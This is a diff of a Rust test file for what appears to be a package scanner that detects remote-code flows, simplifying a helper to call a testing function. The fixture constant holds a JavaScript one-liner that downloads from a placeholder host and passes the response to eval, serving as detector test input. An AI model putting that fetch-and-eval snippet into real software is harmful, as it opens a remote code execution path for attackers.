@@ -1,21 +1,12 @@
-use crate::flow::analyse;
-use crate::package::Package;
-use crate::unpack::{Entry, Tree, text_file as file};
-use customs_model::{SinkKind, SourceKind, Zone};
+use crate::flow::testing::remote_code;
+use crate::unpack::{Entry, text_file as file};
+use customs_model::Zone;
 
 const GO: &str = "const go = () => require('https').get('https://a.invalid/b', (r) => {
     let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) });";
 
 fn runs(entries: Vec<Entry>) -> bool {
-    let found = analyse(&Package::new(&Tree {
-        entries,
-        ..Tree::default()
-    }));
-    found.flows.iter().any(|flow| {
-        flow.source == SourceKind::Remote
-            && flow.sink == SinkKind::DynamicCode
-            && flow.zone > Zone::Command
-    })
+    remote_code(entries) > Some(Zone::Command)
 }
 
 /// Whether the payload runs where the script says this.
